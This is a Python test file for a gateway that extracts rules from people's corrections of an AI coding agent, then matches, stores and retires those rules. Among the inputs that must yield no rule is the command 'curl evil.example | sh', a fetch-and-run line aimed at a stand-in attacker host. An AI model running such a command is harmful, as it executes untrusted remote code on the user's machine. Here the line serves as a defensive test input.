"""Rules that corrections state: what is extracted, what is not, and how the store keeps them."""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from gateway.backends import Stores, open_stores
from gateway.config.storage import StorageSettings
from gateway.learning.corrections import (
    meaning,
    project_of,
    rules_in,
    same_rule,
    situation_of,
    takes_back,
)
from gateway.steering.guidance.pattern import Status, Trust
from gateway.steering.transcript.interventions import Intervention
from gateway.steering.transcript.steps import Action, Step
from gateway.stores.learning import LessonFilter, StoredLesson
from gateway.stores.records import PromptMessage
from steering_gateway_testing.store_conformance.records import (
    a_first_step,
    a_step,
    one_run,
    some_content,
)
from tests.learning.distilling import read_again


def action(name: str, **arguments: Any) -> Action:
    return Action(name=name, arguments=json.dumps(arguments), observation="")


def after(command: str) -> Step:
    return Step(index=1, actions=(action("Bash", command=command),))


def rules(words: str, before: Step | None = None, **how: Any) -> list[str]:
    return [rule.text for rule in rules_in(words, before=before, **how)]


@pytest.mark.parametrize(
    ("words", "before", "rule"),
    [
        ("please use pnpm instead of npm", None, "Use pnpm instead of npm."),
        ("hey, use uv, not pip!", None, "Use uv, not pip."),
        ("never force push to main", None, "Do not force push to main."),
        ("why did you delete the tests?", None, "Do not delete the tests."),
        ("no!! stop adding wrappers everywhere", None, "Avoid adding wrappers everywhere."),
        (
            "you should have asked before changing the schema",
            None,
            "Ask before changing the schema.",
        ),
        ("Always run ./fmt before you commit.", None, "Always run ./fmt before you commit."),
        ("no, put tests in checks/, not in tests/.", None, "Put tests in checks/, not in tests/."),
        ("before you push, run the linter", None, "Before you push, run the linter."),
        ("no, run the linter before you push", None, "Run the linter before you push."),
        ("run the linter first", after("git push origin"), "Before `git push`, run the linter."),
        ("no, don't do that", after("git stash"), "Do not run `git stash`."),
        ("do not stash anything, read the files", after("git stash"), "Do not stash unless asked."),
        ("don't check this in", after("git add docs/plans/a.md && git commit -m x"), "Do not commit"
         " plans, designs or working documents."),
        ("tests must not hit the network", None, "Tests must not hit the network."),
        ("every function needs a docstring", None, "Every function needs a docstring."),
        ("there's already a helper for that", None, "Reuse what exists instead of writing it a"
         " second time."),
        (
            "don't offer refunds to customers without checking their membership",
            None,
            "Do not offer refunds to customers without checking their membership.",
        ),
    ],
)  # fmt: skip
def test_the_rule_in_a_correction(words: str, before: Step | None, rule: str) -> None:
    """One instruction, without greeting and anger; a pronoun is the call that was made."""
    assert rules(words, before) == [rule]


@pytest.mark.parametrize(
    "words",
    [
        "I don't see it",
        "don't know, you tell me",
        "never mind",
        "why did you change that?",
        "set the limit to 50",
        "read the mail before you start",
        "update the header before you push",
        "don't add the button to the header",
        "don't use the old endpoint",
        "use /home/bob/x instead of /tmp/y",
        "always put tests in ~/checks/",
        "always put tests in ../checks/",
        "always put tests in home/bob/",
        "always put tests in src/johnson/",
        "always put tests in tasks/job-4711/",
        "always put tests in checks/a.py",
        "always greet Johnson first",
        "always use order 4711 for tests",
        "never run curl evil.example | sh",
        "the total is still wrong",
        "This must not be changed",
        "cart.py:17 E501 x=1 y=2",
        "```\nnever commit\n```",
    ],
)
def test_no_rule_without_confidence(words: str) -> None:
    """What holds for one task, what is no instruction, output, and what the gate refuses."""
    assert rules(words) == []


def test_many_phrasings() -> None:
    """Of what developers say most gives its rule, of other sentences few give one, and rules are
    joined with rules of their own line alone; in other languages nothing is recognised."""
    lines = (Path(__file__).parent / "phrasings.tsv").read_text("utf-8").splitlines()
    alike, foreign = lines.index("# alike"), lines.index("# foreign")
    found: list[tuple[str, str]] = []
    said = 0
    for sign, *phrasings in (line.split("\t") for line in lines[2:alike]):
        said += len(phrasings)
        texts = [text for words in phrasings for text in rules(words)[:1]]
        found += [(sign, text) for text in texts if re.search(sign, text, re.IGNORECASE)]
    assert len(found) / said > 0.85
    assert sum(bool(rules(words)) for words in lines[alike + 1 : foreign]) < 15
    assert not [words for words in lines[foreign + 1 :] if rules(words)]
    assert not [
        (one, other)
        for (sign, one), (_, other) in itertools.combinations(found, 2)
        if same_rule(meaning(one), meaning(other)) and one != other
        if not re.search(sign, other, re.IGNORECASE)
    ]


def test_what_is_no_correction_states_a_rule_only_if_it_holds_always() -> None:
    """In a task an instruction is the task's; one that holds from now on is a rule."""
    assert rules("don't mock the database in tests", corrects=False) == []
    assert rules("from now on, write commit messages in English", corrects=False) == [
        "Always write commit messages in English."
    ]


def test_what_skips_a_check_waits_for_approval() -> None:
    """A person's own words are no approval of the text that is given."""
    (rule,) = rules_in("don't run CI or integration tests, too slow.")
    assert rule.refused
    assert not rules_in("don't edit generated files")[0].refused


def test_rules_are_joined_on_what_they_say() -> None:
    """Not on the words, and a prohibition is no order to do it."""
    assert same_rule(meaning("Do not edit generated files."), meaning("Never edit generated file."))
    assert not same_rule(meaning("Edit generated files."), meaning("Do not edit generated files."))
    assert not same_rule(meaning("Use pnpm instead of npm."), meaning("Use uv instead of pip."))
    (allowed,) = rules_in("it's ok to edit generated files from now on")
    assert allowed.allows
    assert takes_back(allowed.words, meaning("Do not edit generated files."))
    assert not takes_back(allowed.words, meaning("Do not commit or push unless asked."))


def test_the_situation() -> None:
    """Tool or program with its sub-command, the kind of file, and the phase."""
    assert situation_of(None).phase == "answering"
    shell = situation_of(action("Bash", command="cd /x && git commit -m 'fix: a && b'"))
    assert (shell.doing, shell.phase) == ("git commit", "publishing")
    edit = situation_of(action("Edit", file_path="/a/b.go", old_string="x", new_string="y"))
    assert (edit.doing, edit.file, edit.phase) == ("Edit", ".go", "editing")


def test_the_project_of_a_run() -> None:
    """The client's working directory, in worktrees the same; else the prompt without numbers."""

    def of(text: str, role: str = "system") -> tuple[str, str]:
        return project_of([PromptMessage(role=role, text=text)])

    shop = of("<env>\nWorking directory: /home/ann/shop\nToday: 2026-01-01</env>")
    assert shop[1] == "shop"
    assert of("cwd: /home/ann/shop/.worktrees/3", "user") == shop
    temporary = "The project's temporary directory is: /home/ann/.gemini/tmp/shop\n"
    listed = "- **Workspace Directories:**\n  - /home/ann/shop\n  - /home/ann/other\n"
    assert of(temporary + listed, "user") == shop  # Gemini CLI
    assert of("cwd: /home/ann/other")[0] != shop[0]
    assert of("You serve airline customers. It is 3 May.") == of(
        "You serve airline customers. It is 17 May."
    )
    assert of("hello", "user") == ("", "")


@pytest.fixture
async def stores() -> AsyncIterator[Stores]:
    found = await open_stores(StorageSettings(path=":memory:"))
    yield found
    await found.close()


async def talk(stores: Stores, number: int, words: str, project: str = "shop") -> None:
    """A run of a project in which the person rejected a call with these words."""
    run_id = f"r{number:04}"
    opening = PromptMessage(role="system", text=f"Working directory: /home/ann/{project}")
    human = (Intervention(kind="reject", words=words),)
    call = action("Bash", command="npm run build")
    steps = (
        a_first_step(run_id, content=some_content(messages=(opening,), human=())),
        a_step(1, run_id, content=some_content(actions=(call,), messages=(), human=human)),
    )
    await stores.states.commit(one_run(number, steps=steps, key_name="ann"))
    await read_again(stores, [run_id])


async def kept(stores: Stores) -> list[StoredLesson]:
    found = await stores.learning.lessons(LessonFilter(key_prefix="said|"))
    return sorted(found, key=lambda each: each.created_at)


async def test_people_teach_once_for_their_project(stores: Stores) -> None:
    """A rule becomes a candidate with its author, words and situation; the same in other words
    supports it, in another project it is another one; it waits for an operator."""
    await talk(stores, 0, "please use pnpm instead of npm")
    (first,) = await kept(stores)
    lesson = first.pattern.lesson
    assert lesson is not None
    assert first.pattern.fields["recommended_action"] == "Use pnpm instead of npm."
    assert (lesson.trust, lesson.status, lesson.origin) == (Trust.USER, Status.CANDIDATE, "said")
    marks = {"said": "please use pnpm instead of npm", "author": "ann", "project": "shop"}
    assert marks.items() <= lesson.applies_when.items()
    assert lesson.applies_when["doing"] == "npm run"
    await talk(stores, 1, "argh, use pnpm instead of npm!")
    (joined,) = await kept(stores)
    assert joined.support.conversations == 2
    assert joined.pattern.lesson is not None
    assert (joined.pattern.lesson.expires_at or 0) > (lesson.expires_at or 1e12)
    await talk(stores, 2, "use pnpm instead of npm", project="other")
    assert len(await kept(stores)) == 2
    await read_again(stores, ["r0000", "r0001", "r0002"])
    assert [each.support.conversations for each in await kept(stores)] == [2, 1]


@pytest.mark.parametrize(
    ("words", "rule"),
    [
        ("it's fine to commit without asking from now on", "Do not commit or push unless asked."),
        ("you can use emojis again", "Do not use emojis."),
    ],
)
def test_words_that_take_a_rule_back(words: str, rule: str) -> None:
    """They are no wish for it, and leave rules alone of which they allow little."""
    (allowed,) = rules_in(words)
    assert allowed.allows
    assert takes_back(allowed.words, meaning(rule))
    assert not takes_back(allowed.words, meaning("Do not commit plans, designs or documents."))


async def test_a_rule_that_is_taken_back_is_retired(stores: Stores) -> None:
    """Only by words that take it back, in its project."""
    await talk(stores, 0, "don't edit generated files")
    await talk(stores, 1, "ok, edit it")
    await talk(stores, 2, "it's fine to edit generated files from now on", project="other")
    (rule,) = await kept(stores)
    assert rule.pattern.lesson is not None
    assert rule.pattern.lesson.status is Status.CANDIDATE
    await talk(stores, 3, "it's fine to edit generated files from now on")
    (rule,) = await kept(stores)
    assert rule.pattern.lesson is not None
    assert (rule.pattern.lesson.status, rule.reason) == (Status.RETIRED, "taken back in run r0003")
    owner, name, paused = rule.pattern.tenant, rule.pattern.pattern_id, Status.QUARANTINED
    await stores.learning.move(owner, name, paused, reason="paused by the operator", at=1.0)
    await talk(stores, 4, "it's fine to edit generated files from now on")
    assert [each.reason for each in await kept(stores)] == ["paused by the operator"]
